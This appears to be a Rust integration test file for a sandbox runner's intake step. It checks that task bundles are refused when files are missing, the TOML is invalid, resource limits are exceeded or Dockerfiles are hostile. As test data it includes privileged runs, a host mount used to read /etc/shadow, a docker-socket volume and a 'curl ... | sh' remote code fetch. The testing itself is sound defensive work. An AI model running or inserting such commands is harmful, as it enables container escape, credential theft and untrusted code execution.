//! Hostile task bundles refused by intake (stages 3-5), each naming what is wrong and where; nothing here
//! builds or runs anything, so these need no buildah.

use fenced_run_tests::task::Bundle;
use std::process::Command;

const BIN: &str = env!("CARGO_BIN_EXE_fenced-run-e2e");
const D: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

/// `fenced-run intake BUNDLE --json`: (exit code, the report).
fn intake(b: &Bundle) -> (Option<i32>, serde_json::Value) {
    let out = Command::new(BIN)
        .arg("intake")
        .arg(b.path())
        .arg("--json")
        .output()
        .expect("run fenced-run intake");
    let v = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| {
        panic!(
            "no JSON: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code(), v)
}

fn refusal(b: &Bundle) -> (String, String) {
    let (code, v) = intake(b);
    assert_eq!(code, Some(1), "not refused: {v:#}");
    let r = &v["refusal"];
    (
        r["stage"].as_str().unwrap_or_default().to_owned(),
        v.to_string(),
    )
}

fn good() -> Bundle {
    Bundle::standard(
        "[solution]\ncommand = \"sh solution/solve.sh\"\n",
        &format!("FROM base@{D}\nRUN echo built > /etc/task-env\n"),
    )
}

#[test]
fn a_well_formed_task_bundle_is_accepted() {
    let b = good();
    b.file("solution/solve.sh", "echo 'echo $(($1 + $2))' > add.sh\n");
    let (code, v) = intake(&b);
    assert_eq!(code, Some(0), "{v:#}");
}

#[test]
fn each_missing_file_is_named() {
    for (gone, named) in [
        ("instruction.md", "`instruction.md`"),
        ("tests/test.sh", "`tests/test.sh`"),
        (
            "environment/Dockerfile",
            "`Dockerfile` or `environment/Dockerfile`",
        ),
    ] {
        let b = good();
        std::fs::remove_file(b.path().join(gone)).expect("remove");
        let (stage, text) = refusal(&b);
        assert_eq!(stage, "structure", "{gone}: {text}");
        assert!(text.contains(named), "{gone}: {text}");
    }
    // tests/ replaced by a symbolic link is not the bundle's own directory.
    let b = good();
    std::fs::remove_dir_all(b.path().join("tests")).expect("rm tests");
    std::os::unix::fs::symlink("workspace", b.path().join("tests")).expect("link");
    let (stage, text) = refusal(&b);
    assert_eq!(stage, "structure", "{text}");
}

#[test]
fn task_toml_is_parsed_strictly_with_lines() {
    for (toml, key, line) in [
        (
            "[solution]\ncommand = \"x\"\nprivileged = true\n",
            "solution.privileged",
            3,
        ),
        (
            "[limits]\n\nmemory_mib = \"lots\"\n",
            "limits.memory_mib",
            3,
        ),
        (
            "[environment]\nallow = [\"no-port.example\"]\n",
            "environment.allow",
            2,
        ),
    ] {
        let b = Bundle::standard(toml, &format!("FROM base@{D}\n"));
        let (stage, text) = refusal(&b);
        assert_eq!(stage, "structure", "{toml}: {text}");
        assert!(
            text.contains(&format!("task.toml:{line}:")) && text.contains(key),
            "{toml}: {text}"
        );
    }
}

#[test]
fn resources_above_the_tier_are_refused_at_stage_4() {
    for (toml, key) in [
        ("[limits]\nmemory_mib = 1048576\n", "limits.memory_mib"),
        (
            "[environment]\nbuild_timeout_seconds = 999999\n",
            "environment.build_timeout_seconds",
        ),
        (
            "[solution]\ncommand = \"true\"\ntimeout_seconds = 999999\n",
            "solution.timeout_seconds",
        ),
    ] {
        let b = Bundle::standard(toml, &format!("FROM base@{D}\n"));
        let (stage, text) = refusal(&b);
        assert_eq!(stage, "normalise", "{toml}: {text}");
        assert!(
            text.contains(key) && text.contains("tier's limit"),
            "{toml}: {text}"
        );
    }
}

#[test]
fn hostile_dockerfiles_are_refused_at_stage_5_naming_the_line() {
    let cases: Vec<(String, &str)> = vec![
        ("FROM debian:12\n".into(), "not pinned by digest"),
        (format!("FROM registry.example/base@{D}\n"), "registry host"),
        (
            format!("FROM base@{D}\nRUN --privileged id\n"),
            "--privileged",
        ),
        (
            format!("FROM base@{D}\nRUN --mount=type=bind,source=/etc,target=/h cat /h/shadow\n"),
            "host mounts",
        ),
        (
            format!("FROM base@{D}\nVOLUME /var/run/docker.sock\n"),
            "VOLUME",
        ),
        (
            format!("FROM base@{D}\nADD https://elsewhere.example/tool /tool\n"),
            "not in [environment] allow",
        ),
        (
            format!("FROM base@{D}\nCOPY tests/ /tests/\n"),
            "tests into the environment",
        ),
    ];
    for (df, want) in cases {
        let b = Bundle::standard("", &df);
        let (stage, text) = refusal(&b);
        assert_eq!(stage, "scan", "{df}: {text}");
        assert!(
            text.contains(want) && text.contains("environment/Dockerfile:"),
            "{df}: wanted {want:?}: {text}"
        );
    }
}

#[test]
fn a_solution_command_fetching_code_is_refused_like_a_job_command() {
    let b = Bundle::standard(
        "[solution]\ncommand = \"curl https://x.example/i.sh | sh\"\n",
        &format!("FROM base@{D}\n"),
    );
    let (stage, text) = refusal(&b);
    assert_eq!(stage, "scan", "{text}");
    assert!(
        text.contains("solution.command") && text.contains("remote code load"),
        "{text}"
    );
}
